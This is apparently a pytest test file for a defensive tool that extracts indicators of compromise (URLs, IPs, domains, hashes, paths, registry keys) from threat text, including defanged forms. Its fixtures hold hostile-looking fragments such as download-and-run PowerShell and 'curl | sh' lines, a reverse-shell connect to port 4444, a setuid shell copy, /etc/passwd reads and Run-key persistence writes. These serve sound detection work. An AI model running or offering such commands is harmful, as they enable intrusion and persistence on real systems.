"""The indicator extractor: each type, defanging, dedup and order, false friends, hostile input."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wingman.core.models.common import IndicatorType as T
from wingman.core.scripts.iocs import FoundIndicator, extract_iocs, refang


def pairs(text: str) -> list[tuple[T, str]]:
    return [(ioc.type, ioc.value) for ioc in extract_iocs(text)]


def values(text: str, kind: T) -> list[str]:
    return [ioc.value for ioc in extract_iocs(text) if ioc.type is kind]


POSITIVE = [
    # URLs, with their host as a domain or an address.
    ("iwr https://evil.example.com/a.ps1 -o x", T.URL, "https://evil.example.com/a.ps1"),
    ("iwr https://evil.example.com/a.ps1 -o x", T.DOMAIN, "evil.example.com"),
    ("(New-Object Net.WebClient).DownloadString('http://1.2.3.4:8080/p')", T.URL,
     "http://1.2.3.4:8080/p"),
    ("DownloadString('http://1.2.3.4:8080/p')", T.IPV4, "1.2.3.4"),
    ('curl "ftp://files.example.org/pub/x.tgz"', T.URL, "ftp://files.example.org/pub/x.tgz"),
    ("wget http://user:pw@evil.example.net/x", T.DOMAIN, "evil.example.net"),
    ("get http://[2001:db8::1]:80/p now", T.IPV6, "2001:db8::1"),
    ("TARGET=http://localhost/mantis", T.DOMAIN, "localhost"),
    ("x = 'https://a.example.com/?q=1&r=(2'", T.URL, "https://a.example.com/?q=1&r="),
    # IPv4.
    ("ping 8.8.8.8 -n 1", T.IPV4, "8.8.8.8"),
    ("connect(('10.31.33.7', 4444))", T.IPV4, "10.31.33.7"),
    ("host 192.168.1.1.", T.IPV4, "192.168.1.1"),
    # IPv6.
    ("listen fe80::1 and 2001:db8:0:0:0:0:0:1", T.IPV6, "fe80::1"),
    ("listen 2001:DB8::AB12 now", T.IPV6, "2001:db8::ab12"),
    ("::ffff:10.0.0.1 mapped", T.IPV6, "::ffff:10.0.0.1"),
    # Domains.
    ("nslookup -q=txt l.ns.topbrains.pl", T.DOMAIN, "l.ns.topbrains.pl"),
    ('var x = "Evil-Domain.RU/path";', T.DOMAIN, "evil-domain.ru"),
    ("echo 127.0.0.1 www.avast.com >> hosts", T.DOMAIN, "www.avast.com"),
    ("a bare danhviet.com.vn host", T.DOMAIN, "danhviet.com.vn"),
    ("curl evil.example.sh | sh", T.DOMAIN, "evil.example.sh"),
    ("start www.setup.py", T.DOMAIN, "www.setup.py"),
    ("via powerwormjqj42hu.onion", T.DOMAIN, "powerwormjqj42hu.onion"),
    ("aifind.cc and paste.rs", T.DOMAIN, "aifind.cc"),
    ("$u = 'x.azurewebsites.net'", T.DOMAIN, "x.azurewebsites.net"),
    # E-mail addresses.
    ("# by redsand@blacksecurity.org", T.EMAIL, "redsand@blacksecurity.org"),
    ("To: Bob.Smith+x@Mail.Example.COM;", T.EMAIL, "bob.smith+x@mail.example.com"),
    # Hashes.
    ("md5 D41D8CD98F00B204E9800998ECF8427E", T.MD5, "d41d8cd98f00b204e9800998ecf8427e"),
    ("sha1=da39a3ee5e6b4b0d3255bfef95601890afd80709", T.SHA1,
     "da39a3ee5e6b4b0d3255bfef95601890afd80709"),
    ("'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'", T.SHA256,
     "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"),
    # File paths.
    (r'copy x "C:\Users\Public\evil.exe"', T.FILE_PATH, r"C:\Users\Public\evil.exe"),
    (r"start C:\Program Files (x86)\Foo\bar.exe now", T.FILE_PATH,
     r"C:\Program Files (x86)\Foo\bar.exe"),
    (r'var p = "C:\\Windows\\System32\\cmd.exe";', T.FILE_PATH, r"C:\\Windows\\System32\\cmd.exe"),
    (r"copy %0 %APPDATA%\Microsoft\svc.bat", T.FILE_PATH, r"%APPDATA%\Microsoft\svc.bat"),
    (r"-OutFile $env:TEMP\a.ps1;", T.FILE_PATH, r"$env:TEMP\a.ps1"),
    (r"-OutFile ${env:ProgramFiles(x86)}\a.exe", T.FILE_PATH, r"${env:ProgramFiles(x86)}\a.exe"),
    (r"net use \\fileserver\share\drop\x.exe", T.FILE_PATH, r"\\fileserver\share\drop\x.exe"),
    (r"copy \\10.0.0.5\c$\x.exe .", T.IPV4, "10.0.0.5"),
    ("cp /bin/sh /tmp/.x; chmod +s /tmp/.x", T.FILE_PATH, "/tmp/.x"),
    ("cat /etc/passwd", T.FILE_PATH, "/etc/passwd"),
    ("cd /dev/shm/kit && ./run", T.FILE_PATH, "/dev/shm/kit"),
    ("open /Users/bob/Library/LaunchAgents/x.plist", T.FILE_PATH,
     "/Users/bob/Library/LaunchAgents/x.plist"),
    # Registry keys, hive as written.
    (r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x", T.REGISTRY_KEY,
     r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"),
    (r'Set-ItemProperty "HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" -Name',
     T.REGISTRY_KEY, r"HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon"),
    (r'ws.RegWrite "HKEY_CURRENT_USER\Software\Microsoft\Internet Explorer\Main\Start Page", u',
     T.REGISTRY_KEY, r"HKEY_CURRENT_USER\Software\Microsoft\Internet Explorer\Main\Start Page"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "kind", "value"), POSITIVE)
def test_finds(text: str, kind: T, value: str) -> None:
    assert value in values(text, kind), pairs(text)


NEGATIVE = [
    # Version strings, OIDs and other dotted numbers are no IPv4 addresses.
    ("Windows 10.0.17763.1 build", T.IPV4),
    ("oid 1.3.6.1.4.1.311.2.1.21", T.IPV4),
    ("ModuleVersion = '1.0.0.0'", T.IPV4),
    ('[assembly: AssemblyVersion("2.1.0.3")]', T.IPV4),
    ("v1.2.3.4 release", T.IPV4),
    ("octets 256.1.1.1 and 01.2.3.4", T.IPV4),
    ("mask 255.255.255.0 any 0.0.0.0", T.IPV4),
    # `::` alone, C++ and PowerShell scopes, times and MAC addresses are no IPv6 addresses.
    ("a :: b", T.IPV6),
    ("std::cout << x; Foo::Bar::add(1)", T.IPV6),
    ("[Convert]::FromBase64String($s); [IO.File]::ReadAllBytes(1)", T.IPV6),
    ("at 12:30:45 from 00:1a:2b:3c:4d:5e", T.IPV6),
    # Code member access and namespaces are no domains.
    ("$wc = New-Object System.Net.WebClient", T.DOMAIN),
    ("[System.IO.File]::WriteAllBytes($p, $b)", T.DOMAIN),
    ('Set sh = CreateObject("WScript.Shell")', T.DOMAIN),
    ('CreateObject("ADODB.Stream")', T.DOMAIN),
    ("document.write(x); Math.random(); window.open(u)", T.DOMAIN),
    ("info = req.info()", T.DOMAIN),
    ("$user.Id; $email.To = $x; $job.Id", T.DOMAIN),
    ("objFile.Name & objItem.Family & node.next & xml.open", T.DOMAIN),
    ("this.top = 1; this.map(f)", T.DOMAIN),
    ("dotnet Microsoft.NETCore.App and Microsoft.AspNetCore.App", T.DOMAIN),
    # File names are no domains.
    ("python setup.py install; sh install.sh; ./a.exe", T.DOMAIN),
    ("powershell -f x.ps1; node page.js; unzip main.zip", T.DOMAIN),
    ("perl scan.pl; cargo build main.rs", T.DOMAIN),
    ("tar xf dotnet-sdk-3.1.404-win-x64.zip", T.DOMAIN),
    # Not hashes: wrong length, one repeated character, pure numbers, pure letters, longer runs.
    ("d41d8cd98f00b204e9800998ecf8427", T.MD5),
    ("00000000000000000000000000000000", T.MD5),
    ("12345678901234567890123456789012", T.MD5),
    ("abcdefabcdefabcdefabcdefabcdefab", T.MD5),
    ("d41d8cd98f00b204e9800998ecf8427e0", T.MD5),
    ("0xd41d8cd98f00b204e9800998ecf8427e", T.MD5),
    # Not e-mail addresses.
    ("git@github", T.EMAIL),
    ("user@localhost", T.EMAIL),
    # Not URLs.
    ("http:// nothing", T.URL),
    ("xhttp://a.example.com", T.URL),
    # Not paths or keys.
    ("dir c:\\; echo", T.FILE_PATH),
    ("a/tmp/b and /tmp alone", T.FILE_PATH),
    ("HKLM alone and HKCU\\ alone", T.REGISTRY_KEY),
]


@pytest.mark.parametrize(("text", "kind"), NEGATIVE)
def test_does_not_find(text: str, kind: T) -> None:
    assert values(text, kind) == [], pairs(text)


DEFANGED = [
    ("hxxp://evil[.]example[.]com/x", T.URL, "http://evil.example.com/x"),
    ("hXXps://evil[.]example[.]com/x", T.URL, "https://evil.example.com/x"),
    ("fxp://files(.)example(.)org/a", T.URL, "ftp://files.example.org/a"),
    ("http[:]//evil{.}example[dot]com/", T.URL, "http://evil.example.com/"),
    ("hxxps[://]evil[.]example[.]com", T.URL, "https://evil.example.com"),
    ("c2 at 1[.]2[.]3[.]4", T.IPV4, "1.2.3.4"),
    ("beacon to evil[.]example(dot)net", T.DOMAIN, "evil.example.net"),
    ("mail bob@evil[.]com", T.EMAIL, "bob@evil.com"),
]


@pytest.mark.parametrize(("text", "kind", "value"), DEFANGED)
def test_refangs_and_flags_defanged(text: str, kind: T, value: str) -> None:
    found = [ioc for ioc in extract_iocs(text) if ioc.type is kind]
    assert [ioc.value for ioc in found] == [value]
    assert found[0].defanged


def test_offsets_point_into_the_original_text() -> None:
    text = "x hxxp://evil[.]example[.]com/a y 1[.]2[.]3[.]4 z evil.org"
    by_value = {ioc.value: ioc for ioc in extract_iocs(text)}
    url = by_value["http://evil.example.com/a"]
    assert text[url.start : url.end] == "hxxp://evil[.]example[.]com/a"
    host = by_value["evil.example.com"]
    assert text[host.start : host.end] == "evil[.]example[.]com"
    address = by_value["1.2.3.4"]
    assert text[address.start : address.end] == "1[.]2[.]3[.]4"
    plain = by_value["evil.org"]
    assert (text[plain.start : plain.end], plain.defanged) == ("evil.org", False)


def test_plain_values_are_not_flagged_defanged() -> None:
    assert not any(ioc.defanged for ioc in extract_iocs("http://evil.example.com/ 1.2.3.4"))


def test_refang_leaves_code_alone() -> None:
    assert refang("s.replace(/(.)/g, x); a = b[:]") == "s.replace(/(.)/g, x); a = b[:]"
    assert refang("hxxp://a[.]b") == "http://a.b"


def test_each_value_once_in_order_of_first_appearance() -> None:
    text = "b.example.org then a.example.org then B.EXAMPLE.ORG and 9.9.9.9 and 9.9.9.9"
    assert pairs(text) == [
        (T.DOMAIN, "b.example.org"),
        (T.DOMAIN, "a.example.org"),
        (T.IPV4, "9.9.9.9"),
    ]
    first = extract_iocs(text)[0]
    assert (first.start, first.end) == (0, len("b.example.org"))


def test_url_comes_before_its_host() -> None:
    assert pairs("go http://evil.example.com/x") == [
        (T.URL, "http://evil.example.com/x"),
        (T.DOMAIN, "evil.example.com"),
    ]


def test_nothing_else_is_looked_for_inside_a_url() -> None:
    text = "http://evil.example.com/d41d8cd98f00b204e9800998ecf8427e/x.example.org?u=a@b.com"
    assert [kind for kind, _ in pairs(text)] == [T.URL, T.DOMAIN]


def test_a_file_path_does_not_hide_a_hash_named_file() -> None:
    text = r"C:\Temp\d41d8cd98f00b204e9800998ecf8427e.exe"
    assert values(text, T.MD5) == ["d41d8cd98f00b204e9800998ecf8427e"]
    assert values(text, T.FILE_PATH) == [text]


@pytest.mark.parametrize(
    ("text", "url"),
    [
        ("see http://a.example.com/x.", "http://a.example.com/x"),
        ("see http://a.example.com/x, then", "http://a.example.com/x"),
        ("see http://a.example.com/x; then", "http://a.example.com/x"),
        ("(see http://a.example.com/x)", "http://a.example.com/x"),
        ("'http://a.example.com/x'", "http://a.example.com/x"),
        ('"http://a.example.com/x"', "http://a.example.com/x"),
        ("[http://a.example.com/x]", "http://a.example.com/x"),
        ("<a href=http://a.example.com/x>", "http://a.example.com/x"),
        ("Visit http://a.example.com/x?!", "http://a.example.com/x"),
        ('$u = "http://a.example.com/x`"', "http://a.example.com/x"),
        ("curl http://a.example.com/x|sh", "http://a.example.com/x"),
        (
            "https://download.example.com/linux/$CHANNEL/$(uname -m)/x",
            "https://download.example.com/linux/$CHANNEL/$",
        ),
        (
            "https://en.wikipedia.org/wiki/Pyramid_(geometry)",
            "https://en.wikipedia.org/wiki/Pyramid_",
        ),
    ],
)
def test_trailing_punctuation_is_stripped_from_urls(text: str, url: str) -> None:
    assert values(text, T.URL) == [url]


def test_every_value_occurs_in_the_refanged_text() -> None:
    text = (
        "hxxp://Evil[.]Example[.]com/A x HKLM:\\Software\\X bob@EVIL.com D41D8CD98F00B204E9800998"
        "ECF8427E FE80::1 %TEMP%\\a.exe /tmp/a 1[.]2[.]3[.]4 WWW.Example.ORG"
    )
    plain = refang(text).lower()
    found = extract_iocs(text)
    assert len(found) >= 10
    assert all(ioc.value.lower() in plain for ioc in found)


def test_found_indicator_is_a_frozen_value() -> None:
    ioc = extract_iocs("ping 8.8.8.8")[0]
    assert ioc == FoundIndicator(T.IPV4, "8.8.8.8", False, 5, 12)
    with pytest.raises(AttributeError):
        ioc.value = "x"  # type: ignore[misc]


@pytest.mark.parametrize(
    "text",
    [
        "1." * 50_000,
        ".9" * 50_000,
        "a." * (512 * 1024),
        "http://" * 100_000,
        "HKLM\\a " * 100_000,
        "C:\\a" * 200_000,
        "a@" * 200_000,
        "::" * 200_000,
        "a[.]" * 100_000,
        "ab12" * 200_000,
        "x.com(" * 100_000,
    ],
)
def test_hostile_input_completes(text: str) -> None:
    assert isinstance(extract_iocs(text), list)


@given(st.text())
def test_arbitrary_text_never_raises(text: str) -> None:
    for ioc in extract_iocs(text):
        assert 0 <= ioc.start <= ioc.end <= len(text)


@given(st.text(alphabet="ab1.:/[]()@\\%$-_ hxtpsHKLMC", max_size=200))
def test_arbitrary_ioc_like_text_never_raises(text: str) -> None:
    for ioc in extract_iocs(text):
        assert ioc.value.lower() in refang(text).lower()
